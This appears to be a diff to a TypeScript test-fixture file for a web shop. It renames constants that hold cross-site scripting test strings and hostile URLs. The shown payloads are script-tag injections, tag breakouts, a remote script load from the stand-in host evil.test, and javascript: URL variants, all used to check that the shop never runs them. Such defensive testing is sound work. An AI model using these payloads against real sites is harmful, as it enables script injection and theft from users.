@@ -1,7 +1,7 @@
 /** Texts that would run, load or break something if they were ever taken for more than text. */
 
 /** Each would set `window.PWNED`, or ask `evil.test`, where it were believed. */
-export const VECTORS: readonly string[] = [
+export const XSS_VECTORS: readonly string[] = [
   '<script>PWNED=1</script>',
   '</title></textarea></style><script>PWNED=1</script>',
   '<ScRiPt src=https://evil.test/x.js></sCrIpT>',
@@ -85,7 +85,7 @@ export const VECTORS: readonly string[] = [
 ];
 
 /** What must never become an address. */
-export const ADDRESSES: readonly string[] = [
+export const HOSTILE_URLS: readonly string[] = [
   'javascript:PWNED=1',
   'JaVaScRiPt:PWNED=1',
   ' javascript:PWNED=1',
@@ -119,7 +119,7 @@ export const ADDRESSES: readonly string[] = [
 ];
 
 /** Where the shop's own pictures are: the only requests that a page may make. */
-export const PICTURES = `${location.origin}/demo/icon.svg`;
+export const OWN_PICTURE_URL = `${location.origin}/demo/icon.svg`;
 
 /** The Big List of Naughty Strings, but for those that are only spaces, which no shop sends twice. */
 export async function naughtyStrings(): Promise<readonly string[]> {
